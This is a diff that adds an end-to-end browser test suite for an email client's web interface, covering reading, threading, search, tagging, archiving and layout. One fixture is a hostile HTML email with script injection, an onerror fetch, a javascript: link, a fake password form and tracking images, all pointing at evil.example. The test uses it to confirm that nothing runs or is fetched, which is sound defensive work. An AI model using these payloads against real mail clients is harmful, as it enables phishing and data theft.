@@ -1,0 +1,396 @@
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { atRest, findFaults } from './faults.ts'
+import { type Mailbox, mailLink, mailRow, opened, openMailbox, said, subjects, undo } from './mailbox.ts'
+import { pngOf } from './pictures.ts'
+import { type Service, startService } from './service.ts'
+import { browserPath, openBrowser, register, type Visitor, visit, whySkipped } from './visitor.ts'
+
+const POLL = { timeout: 10_000 }
+const HOUR_MS = 3_600_000
+const hoursAgo = (hours: number): string => new Date(Date.now() - hours * HOUR_MS).toISOString()
+const focusedSubject = (page: Page) =>
+  page.evaluate("document.activeElement.querySelector('.mail-subject')?.textContent ?? null")
+
+const HOSTILE = [
+  'From: Mallory <mallory@evil.example>',
+  'To: ana@example.org',
+  'Subject: You have won',
+  'Date: Mon, 2 Mar 2020 10:00:00 +0000',
+  'MIME-Version: 1.0',
+  'Content-Type: text/html; charset=utf-8',
+  '',
+  '<p>Hello <b>winner</b></p>',
+  '<script>top.postMessage("ran", "*"); document.title = "ran"; fetch("https://evil.example/script")</script>',
+  '<img src="https://tracker.evil.example/pixel.png" width="300" height="40" alt="logo">',
+  '<img src="x" onerror="fetch(\'https://evil.example/onerror\')">',
+  '<div style="background-image:url(https://evil.example/background.png)">styled</div>',
+  '<link rel="stylesheet" href="https://evil.example/style.css"><style>@import "https://evil.example/i.css";</style>',
+  '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>',
+  '<form action="https://evil.example/form"><input name="password"><button>Sign in</button></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">',
+  '<a href="javascript:fetch(\'https://evil.example/link\')">run</a>',
+  '<a href="https://harmless.example/page">a page</a>',
+]
+
+describe.skipIf(!browserPath)(`mail in the console${whySkipped}`, () => {
+  let service: Service
+  let browser: Browser
+  let visitor: Visitor
+  let page: Page
+  let mailbox: Mailbox
+  const asked: string[] = []
+
+  beforeAll(async () => {
+    service = await startService()
+    browser = await openBrowser()
+    visitor = await visit(browser, service.url)
+    page = visitor.page
+    mailbox = openMailbox(service)
+    visitor.context.on('request', (request) => asked.push(request.url()))
+    await register(page, { name: 'Ana', email: 'ana@example.org' })
+  })
+  afterAll(async () => {
+    await browser?.close()
+    await service?.stop()
+  })
+
+  it('is reached by a key, and begins with what to do', async () => {
+    await page.keyboard.press('g')
+    await page.keyboard.press('m')
+    await page.getByText('No mail account yet').waitFor()
+    expect(await page.getByRole('link', { name: 'Add a mail account' }).getAttribute('href')).toBe(
+      '/settings/mail-accounts',
+    )
+    expect(await page.getByRole('heading', { level: 1 }).innerText()).toBe('Mail')
+    expect(await findFaults(page)).toEqual([])
+    await page.getByRole('navigation', { name: 'Folders' }).getByRole('link', { name: 'Trash' }).click()
+    await page.getByText('The trash is empty').waitFor()
+  })
+
+  it('shows what came, the newest first, and how much of it is unread', async () => {
+    await mailbox.put({
+      from: 'Ines Falk <ines@falk.example>',
+      to: ['Ana <ana@example.org>'],
+      cc: ['Tom Weber <tom@example.org>'],
+      subject: 'Drawings',
+      text: 'The drawings are done. Look at the ground floor: https://falk.example/plan.',
+      messageId: 'one@falk.example',
+      date: hoursAgo(30),
+      tags: ['work'],
+      read: true,
+    })
+    await mailbox.put({
+      folder: 'sent',
+      from: 'Ana <ana@example.org>',
+      to: ['Ines Falk <ines@falk.example>'],
+      subject: 'Re: Drawings',
+      text: 'The staircase is too steep.',
+      messageId: 'two@example.org',
+      inReplyTo: 'one@falk.example',
+      date: hoursAgo(20),
+    })
+    await mailbox.put({
+      from: 'Ines Falk <ines@falk.example>',
+      to: ['Ana <ana@example.org>'],
+      subject: 'Re: Drawings',
+      text: 'Turning it works.\n\nOn Monday Ana <ana@example.org> wrote:\n> The staircase is too steep.',
+      messageId: 'three@falk.example',
+      inReplyTo: 'two@example.org',
+      date: hoursAgo(2),
+      tags: ['work', 'lindenhof'],
+    })
+    await mailbox.put({
+      from: 'Bank <bank@example.org>',
+      subject: 'Your statement',
+      text: 'Here.',
+      date: hoursAgo(4),
+    })
+    await mailbox.put({
+      from: 'Choir <choir@example.org>',
+      subject: 'Rehearsal',
+      text: 'At eight.',
+      date: hoursAgo(6),
+    })
+    await page.goto('/mail')
+    await mailLink(page, 'Rehearsal').waitFor()
+    expect(await subjects(page)).toEqual(['Re: Drawings', 'Your statement', 'Rehearsal', 'Drawings'])
+    await page.getByRole('link', { name: 'Inbox , 3 unread' }).waitFor()
+  })
+
+  it('shows a conversation, marks it as read, and takes that back', async () => {
+    await mailLink(page, 'Re: Drawings').click()
+    await opened(page, 'Re: Drawings')
+    expect(await page.title()).toBe('Re: Drawings · Factotum')
+    expect(await page.evaluate('document.activeElement.id')).toBe('conversation-subject')
+    const last = page.getByRole('article', { name: 'From Ines Falk' }).last()
+    await last.getByText('Turning it works.').waitFor()
+    expect(await page.getByRole('article').count()).toBe(3)
+    await expect.poll(() => mailRow(page, 'Re: Drawings').getAttribute('data-read'), POLL).toBe('true')
+    await page.getByRole('link', { name: 'Inbox , 2 unread' }).waitFor()
+    await page.keyboard.press('u')
+    await expect.poll(() => mailRow(page, 'Re: Drawings').getAttribute('data-read'), POLL).toBe('false')
+    await page.getByRole('button', { name: 'Mark as read' }).click()
+    await page.getByRole('button', { name: 'Mark as unread' }).waitFor()
+  })
+
+  it('folds what was quoted, and opens earlier messages', async () => {
+    const last = page.getByRole('article', { name: 'From Ines Falk' }).last()
+    expect(await last.getByText('The staircase is too steep.').count()).toBe(0)
+    await last.getByRole('button', { name: 'Show quoted history' }).click()
+    await last.getByText('The staircase is too steep.').waitFor()
+    const first = page.getByRole('article', { name: 'From Ines Falk' }).first()
+    await first.locator('.message-toggle').click()
+    const link = first.getByRole('link', { name: 'https://falk.example/plan' })
+    expect(await link.getAttribute('href')).toBe('https://falk.example/plan')
+    expect(await link.getAttribute('rel')).toContain('noopener')
+  })
+
+  it('is walked through, starred, archived and deleted with the keyboard, and Undo brings it back', async () => {
+    await page.goto('/mail')
+    await mailLink(page, 'Rehearsal').waitFor()
+    await page.keyboard.press('j')
+    await expect.poll(() => focusedSubject(page), POLL).toBe('Re: Drawings')
+    await page.keyboard.press('j')
+    await page.keyboard.press('s')
+    await expect
+      .poll(
+        () =>
+          mailRow(page, 'Your statement').getByRole('button', { name: /^Star/ }).getAttribute('aria-pressed'),
+        POLL,
+      )
+      .toBe('true')
+    await page.keyboard.press('e')
+    await said(page, '“Your statement” is archived.')
+    await expect.poll(() => subjects(page), POLL).toEqual(['Re: Drawings', 'Rehearsal', 'Drawings'])
+    // The one that took its place has the focus.
+    await expect.poll(() => focusedSubject(page), POLL).toBe('Rehearsal')
+    await page.keyboard.press('#')
+    await said(page, '“Rehearsal” is in the trash.')
+    await undo(page, '“Rehearsal” is in the trash.')
+    await undo(page, '“Your statement” is archived.')
+    await expect
+      .poll(() => subjects(page), POLL)
+      .toEqual(['Re: Drawings', 'Your statement', 'Rehearsal', 'Drawings'])
+    await mailLink(page, 'Your statement').focus()
+    await page.keyboard.press('Enter')
+    await opened(page, 'Your statement')
+    await page.keyboard.press('j')
+    await opened(page, 'Rehearsal')
+    await page.keyboard.press('k')
+    await opened(page, 'Your statement')
+    await page.keyboard.press('Escape')
+    await page.getByText('Choose an e-mail').waitFor()
+    await expect.poll(() => focusedSubject(page), POLL).toBe('Your statement')
+  })
+
+  it('is found by words and operators, which a popover explains', async () => {
+    await page.keyboard.press('/')
+    await page.keyboard.type('staircase')
+    await expect.poll(() => subjects(page), POLL).toEqual(['Re: Drawings', 'Re: Drawings'])
+    await expect.poll(() => page.locator('.mail-snippet mark').count(), POLL).toBeGreaterThan(0)
+    await page.getByRole('button', { name: 'Only Inbox' }).click()
+    await expect.poll(() => subjects(page), POLL).toEqual(['Re: Drawings'])
+    await page.getByRole('searchbox').fill('from:choir')
+    await expect.poll(() => subjects(page), POLL).toEqual(['Rehearsal'])
+    await page.getByRole('searchbox').fill('zebra"((')
+    await page.getByText('No e-mail fits').waitFor()
+    await page.getByRole('button', { name: 'What the search understands' }).click()
+    await page.getByRole('button', { name: /^tag:work/ }).click()
+    await expect.poll(() => subjects(page), POLL).toEqual(['Re: Drawings', 'Drawings'])
+    await page.getByRole('searchbox').fill('')
+    await expect.poll(async () => (await subjects(page)).length, POLL).toBe(4)
+  })
+
+  it('is narrowed to a tag or to what is unread, and the way back is kept', async () => {
+    await page.getByRole('button', { name: 'Tags' }).click()
+    await page.getByRole('menuitem', { name: '#lindenhof' }).click()
+    await expect.poll(() => subjects(page), POLL).toEqual(['Re: Drawings'])
+    await page.goBack()
+    await expect.poll(async () => (await subjects(page)).length, POLL).toBe(4)
+    await mailLink(page, 'Rehearsal').focus()
+    await page.keyboard.press('u')
+    await expect.poll(() => mailRow(page, 'Rehearsal').getAttribute('data-read'), POLL).toBe('false')
+    await page.getByRole('button', { name: 'Unread' }).click()
+    await expect.poll(() => subjects(page), POLL).toEqual(['Rehearsal'])
+    await page.getByRole('button', { name: 'Unread' }).click()
+    await expect.poll(async () => (await subjects(page)).length, POLL).toBe(4)
+  })
+
+  it('is tagged where it is read', async () => {
+    await mailLink(page, 'Rehearsal').click()
+    await opened(page, 'Rehearsal')
+    await page.getByRole('button', { name: 'Tag', exact: true }).click()
+    await page.keyboard.type('music')
+    await page.keyboard.press('Enter')
+    await mailRow(page, 'Rehearsal').getByText('#music').waitFor()
+    await page.getByRole('button', { name: 'Remove the tag music' }).click()
+    await expect.poll(() => mailRow(page, 'Rehearsal').getByText('#music').count(), POLL).toBe(0)
+  })
+
+  it('runs nothing of a hostile message, and fetches nothing for it', async () => {
+    const { id } = await mailbox.raw(HOSTILE)
+    asked.length = 0
+    await page.goto(`/mail/inbox/${id}`)
+    await opened(page, 'You have won')
+    const frame = page.frameLocator('.message-frame')
+    await frame.getByText('winner').waitFor()
+    const sandbox = (await page.locator('.message-frame').getAttribute('sandbox')) ?? ''
+    expect(sandbox.split(' ').toSorted()).toEqual(['allow-popups', 'allow-popups-to-escape-sandbox'])
+    await page.waitForLoadState('networkidle')
+    expect(asked.filter((url) => !url.startsWith(service.url))).toEqual([])
+    expect(await page.title()).toBe('You have won · Factotum')
+    expect(await frame.locator('script, form, iframe, object, link, style, [onerror]').count()).toBe(0)
+    expect(await frame.getByText('run', { exact: true }).getAttribute('href')).toBeNull()
+    // Even a script that had slipped through would find no way in or out.
+    const policy = await frame.locator('meta[http-equiv]').getAttribute('content')
+    expect(policy).toContain("default-src 'none'")
+    expect(policy).not.toContain('https:')
+  })
+
+  it('loads the pictures of a message when it is asked to, and only those', async () => {
+    await visitor.context.route('https://tracker.evil.example/**', (route) =>
+      route.fulfill({ contentType: 'image/png', body: pngOf(300, [200, 30, 30]) }),
+    )
+    asked.length = 0
+    await page.getByRole('button', { name: 'Load images' }).click()
+    const picture = page.frameLocator('.message-frame').getByAltText('logo')
+    await picture.waitFor()
+    await page.waitForLoadState('networkidle')
+    const elsewhere = new Set(asked.filter((url) => !url.startsWith(service.url)))
+    expect([...elsewhere]).toEqual(['https://tracker.evil.example/pixel.png'])
+    expect((await picture.boundingBox())?.width).toBe(300)
+  })
+
+  it('opens links of a message in a tab that knows nothing of this one', async () => {
+    await visitor.context.route('https://harmless.example/**', (route) =>
+      route.fulfill({ contentType: 'text/html', body: '<title>there</title>' }),
+    )
+    const coming = visitor.context.waitForEvent('page')
+    await page.frameLocator('.message-frame').getByText('a page').click()
+    const other = await coming
+    await other.waitForURL('https://harmless.example/page')
+    expect(await other.evaluate('[window.opener, document.referrer]')).toEqual([null, ''])
+    await other.close()
+  })
+
+  it('shows pictures that are part of a message, its files, and a frame as high as what is in it', async () => {
+    const picture = pngOf(120, [30, 90, 200]).toString('base64')
+    const { id } = await mailbox.raw([
+      'From: Blue Shop <shop@blue.example>',
+      'To: ana@example.org',
+      'Subject: Your order',
+      'MIME-Version: 1.0',
+      'Content-Type: multipart/mixed; boundary=m',
+      '',
+      '--m',
+      'Content-Type: multipart/related; boundary=r',
+      '',
+      '--r',
+      'Content-Type: text/html; charset=utf-8',
+      '',
+      `<img src="cid:lamp@blue" alt="lamp">${'<p>A line of the order.</p>'.repeat(30)}<p>The end.</p>`,
+      '<div>On Monday Ana wrote:</div><blockquote>Where is it?</blockquote>',
+      '--r',
+      'Content-Type: image/png',
+      'Content-ID: <lamp@blue>',
+      'Content-Disposition: inline; filename=lamp.png',
+      'Content-Transfer-Encoding: base64',
+      '',
+      picture,
+      '--r--',
+      '--m',
+      'Content-Type: text/csv; name=order.csv',
+      'Content-Disposition: attachment; filename=order.csv',
+      '',
+      'lamp,2',
+      '--m--',
+      '',
+    ])
+    await page.goto(`/mail/inbox/${id}`)
+    const frame = page.frameLocator('.message-frame')
+    const lamp = frame.getByAltText('lamp')
+    await lamp.waitFor()
+    await expect.poll(async () => (await lamp.boundingBox())?.height, POLL).toBe(120)
+    const outer = await page.locator('.message-frame').boundingBox()
+    const inner = await frame.locator('html').boundingBox()
+    const end = await frame.getByText('The end.').boundingBox()
+    expect(Math.abs((outer?.height ?? 0) - (inner?.height ?? 0))).toBeLessThan(4)
+    expect((end?.y ?? 0) + (end?.height ?? 0)).toBeLessThanOrEqual((outer?.y ?? 0) + (outer?.height ?? 0) + 1)
+    expect(await frame.getByText('Where is it?').count()).toBe(0)
+    await page.getByRole('button', { name: 'Show quoted history' }).click()
+    await frame.getByText('Where is it?').waitFor()
+    const coming = page.waitForEvent('download')
+    await page.getByRole('button', { name: /^Download order\.csv, \d+ B$/ }).click()
+    expect((await coming).suggestedFilename()).toBe('order.csv')
+    await page.getByRole('button', { name: 'More for the message from Blue Shop' }).click()
+    await page.getByRole('menuitem', { name: 'Show as plain text' }).click()
+    await page.locator('.message-text').getByText('The end.').waitFor()
+    expect(await page.locator('.message-frame').count()).toBe(0)
+  })
+
+  it('is selected by the dozen', async () => {
+    await page.goto('/mail')
+    await mailLink(page, 'Rehearsal').waitFor()
+    await page.getByRole('checkbox', { name: 'Select Your order, Blue Shop' }).check()
+    await page.getByRole('checkbox', { name: 'Select Rehearsal, Choir' }).click({ modifiers: ['Shift'] })
+    await page.getByText('4 selected').waitFor()
+    await page
+      .getByRole('toolbar', { name: 'Selected e-mails' })
+      .getByRole('button', { name: 'Archive' })
+      .click()
+    await said(page, '4 e-mails are archived.')
+    await expect.poll(() => subjects(page), POLL).toEqual(['Drawings', 'You have won'])
+    await undo(page, '4 e-mails are archived.')
+    await expect.poll(async () => (await subjects(page)).length, POLL).toBe(6)
+  })
+
+  it('is deleted for good only from the trash, after a question', async () => {
+    await mailLink(page, 'You have won').focus()
+    await page.keyboard.press('#')
+    await said(page, '“You have won” is in the trash.')
+    await page.goto('/mail/trash')
+    await mailLink(page, 'You have won').focus()
+    await page.keyboard.press('#')
+    const dialog = page.getByRole('alertdialog', { name: 'Delete “You have won” for good?' })
+    await dialog.getByRole('button', { name: 'Delete for good' }).click()
+    await page.getByText('The trash is empty').waitFor()
+  })
+
+  it('goes on loading as one scrolls', { timeout: 60_000 }, async () => {
+    for (let number = 0; number < 120; number++)
+      await mailbox.put({ from: 'a@b.example', subject: `Letter ${number}`, date: hoursAgo(1000 + number) })
+    await page.goto('/mail')
+    await mailLink(page, 'Rehearsal').waitFor()
+    expect((await subjects(page)).length).toBe(50)
+    for (const count of [100, 125]) {
+      await page.locator('.mail-row').last().scrollIntoViewIfNeeded()
+      await expect.poll(async () => (await subjects(page)).length, POLL).toBe(count)
+    }
+  })
+
+  for (const scheme of ['light', 'dark'] as const)
+    it(`has nothing in anyone's way in ${scheme} colours, nor on a small screen`, async () => {
+      await page.emulateMedia({ colorScheme: scheme })
+      await page.goto('/mail')
+      await mailLink(page, 'Your order').click()
+      await page.frameLocator('.message-frame').getByText('The end.').waitFor()
+      await atRest(page)
+      expect(await findFaults(page)).toEqual([])
+      await page.setViewportSize({ width: 360, height: 740 })
+      expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(360)
+      expect(await mailLink(page, 'Your order').isVisible()).toBe(false)
+      expect(await findFaults(page)).toEqual([])
+      await page.getByRole('button', { name: 'Back' }).click()
+      await mailLink(page, 'Your order').waitFor()
+      expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(360)
+      expect(await findFaults(page)).toEqual([])
+      await page.setViewportSize({ width: 1280, height: 900 })
+    })
+
+  it('never made the browser complain', () => {
+    // The browser says so whenever the test itself looks into a frame that may run nothing.
+    const isOfTheTest = /^Blocked script execution in 'about:srcdoc'/
+    expect(visitor.troubles.filter((trouble) => !isOfTheTest.test(trouble))).toEqual([])
+  })
+})
